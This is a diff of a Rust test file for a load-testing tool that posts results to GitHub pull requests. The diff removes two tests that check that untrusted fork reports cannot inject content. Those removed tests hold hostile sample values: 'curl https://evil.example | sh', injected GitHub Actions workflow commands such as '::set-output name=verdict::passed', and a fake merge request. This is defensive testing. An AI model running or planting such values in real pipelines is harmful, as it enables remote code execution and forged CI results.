@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 use crate::support::github::{FakeGitHub, Fault};
 use crate::support::{Demo, Folder, Loadline, Output};
 
-const STUDENTS: &str = "\
+pub(crate) const STUDENTS: &str = "\
 name: students
 target: http://127.0.0.1:1
 users: { reader: { tasks: [{ get: /students }] } }
@@ -15,7 +15,7 @@ load: { users: 10, iterations: 100 }
 ";
 
 /// A folder with the report of a run that passed.
-fn measured() -> Folder {
+pub(crate) fn measured() -> Folder {
     measured_with(STUDENTS, 0)
 }
 
@@ -29,7 +29,7 @@ fn measured_with(scenario: &str, code: i32) -> Folder {
 }
 
 /// The event of a pull request from a repository.
-fn pull_request(folder: &Folder, from: &str, head: &str) {
+pub(crate) fn pull_request(folder: &Folder, from: &str, head: &str) {
     let event = json!({
         "repository": {"default_branch": "main"},
         "pull_request": {
@@ -41,10 +41,10 @@ fn pull_request(folder: &Folder, from: &str, head: &str) {
     folder.write("event.json", &event.to_string());
 }
 
-const HEAD: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+pub(crate) const HEAD: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
 
 /// A command with the variables of a workflow for an event.
-fn in_workflow(folder: &Folder, github: &FakeGitHub, event: &str, args: &[&str]) -> Loadline {
+pub(crate) fn in_workflow(folder: &Folder, github: &FakeGitHub, event: &str, args: &[&str]) -> Loadline {
     let mut command = folder.loadline(args.iter().copied());
     for (name, value) in github.variables() {
         command = command.env(name, &value);
@@ -68,7 +68,7 @@ fn publish(folder: &Folder, github: &FakeGitHub, args: &[&str]) -> Output {
     in_workflow(folder, github, "pull_request", &args).exits_with(0)
 }
 
-fn bodies(github: &FakeGitHub) -> Vec<String> {
+pub(crate) fn bodies(github: &FakeGitHub) -> Vec<String> {
     github.state().comments.iter().map(|comment| comment["body"].as_str().unwrap().to_owned()).collect()
 }
 
@@ -491,81 +491,4 @@ fn a_change_is_compared_with_the_history_of_its_base_and_an_accepted_regression_
     assert_eq!((code, &comparison["verdict"], &comparison["advisory"]), (0, &json!("regressed"), &json!(true)), "{comparison:#}");
     let note = comparison["note"].as_str().unwrap();
     assert!(note.starts_with("accepted by maintainer; ") && note.contains("none of the 1 commits"), "{note}");
-}
-
-/// The event of the workflow that follows a fork's own.
-fn after_a_fork(folder: &Folder, github: &FakeGitHub) {
-    let event = json!({"workflow_run": {
-        "event": "pull_request", "head_sha": HEAD, "head_branch": "topic", "html_url": "https://github.com/octocat/demo/actions/runs/41",
-        "head_repository": {"full_name": "stranger/demo"}, "pull_requests": [],
-    }});
-    folder.write("event.json", &event.to_string());
-    let pull = |number: u64, from: &str, head: &str| {
-        json!({
-            "number": number, "head": {"sha": head, "ref": "topic", "repo": {"full_name": from}},
-            "base": {"sha": "b".repeat(40), "ref": "main", "repo": {"full_name": "octocat/demo"}},
-        })
-    };
-    github.state().pulls = vec![pull(5, "stranger/other", HEAD), pull(6, "stranger/demo", &"d".repeat(40)), pull(7, "stranger/demo", HEAD)];
-}
-
-#[test]
-fn a_fork_is_judged_by_the_scenario_of_this_branch() {
-    let (folder, github) = (measured(), FakeGitHub::start());
-    after_a_fork(&folder, &github);
-    // The fork says that all is well, that it was another run, and has thresholds of its own.
-    let mut record: Value = folder.record();
-    record["run"]["repeat"] = json!("curl https://evil.example | sh");
-    record["run"]["pull_request"] = json!(1);
-    record["warnings"] = json!([{"code": "x", "invalidates": false, "message": "@octocat merge this", "advice": null}]);
-    folder.write("loadline-report/record.json", &record.to_string());
-    folder.write("loadline.yml", &format!("{STUDENTS}thresholds: {{ all: p95 < 1us }}\n"));
-    let args = ["publish", "loadline-report", "--from-fork", "--status"];
-    let output = in_workflow(&folder, &github, "workflow_run", &args).exits_with(0);
-    let [body] = bodies(&github).try_into().unwrap();
-    assert_eq!(github.state().comments[0]["issue"], 7, "{output}");
-    assert!(body.contains("### ❌ FAILED · students: 1 of 1 threshold missed"), "{body}");
-    assert!(body.contains("Measured by the fork's own workflow"), "{body}");
-    assert!(!body.contains("evil") && !body.contains("merge this") && !body.contains("All is well again"), "{body}");
-    assert!(github.state().statuses.is_empty());
-    assert!(folder.read("output").contains("verdict=failed\n"));
-
-    folder.write("loadline.yml", &STUDENTS.replace("users: 10", "users: 9"));
-    in_workflow(&folder, &github, "workflow_run", &args).exits_with(0);
-    assert!(bodies(&github)[0].contains("INVALID · students: the pull request changes the load itself"), "{:?}", bodies(&github));
-}
-
-#[test]
-fn what_a_fork_must_not_do_comes_to_nothing() {
-    let (folder, github) = (measured(), FakeGitHub::start());
-    after_a_fork(&folder, &github);
-    let good = folder.read("loadline-report/record.json");
-    let publish = || in_workflow(&folder, &github, "workflow_run", &["publish", "loadline-report", "--from-fork"]).exits_with(0);
-    for (record, said) in [
-        ("{\"schema_version\": 1, \"x\": [[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]}".to_owned(), "lists within lists"),
-        (good.replace("\"name\": \"students\"", "\"name\": \"::error::owned\""), "no scenario of this branch has its name"),
-        ("\u{0}::set-output name=verdict::passed".to_owned(), "not a loadline record"),
-        (good.replace("\"failures\": 0", "\"failures\": 18446744073709551615"), "contradict"),
-    ] {
-        folder.write("loadline-report/record.json", &record);
-        let output = publish();
-        assert!(
-            output.stdout.lines().any(|line| line.starts_with("::warning title=loadline::") && line.contains(said)),
-            "{said}: {output}"
-        );
-        assert!(output.stdout.lines().all(|line| !line.starts_with("::error") && !line.starts_with("::set-output")), "{output}");
-    }
-    assert_eq!(bodies(&github).len(), 1, "one notice that there is no record");
-    assert!(bodies(&github)[0].contains("measured nothing"));
-
-    github.state().pulls.pop();
-    let moved_on = publish();
-    assert!(moved_on.stdout.contains("::notice title=loadline::no open pull request has the commit"), "{moved_on}");
-    pull_request(&folder, "stranger/demo", HEAD);
-    let wrong = in_workflow(&folder, &github, "pull_request", &["publish", "--from-fork"]).exits_with(2);
-    assert!(wrong.stderr.contains("belongs into a workflow on `workflow_run`"), "{wrong}");
-    folder.write("loadline-report/record.json", &good);
-    let first_stage = in_workflow(&folder, &github, "pull_request", &["publish"]).exits_with(0);
-    assert!(first_stage.stdout.contains("::notice title=loadline::a pull request from a fork has no right to comment"), "{first_stage}");
-    assert_eq!(bodies(&github).len(), 1);
 }
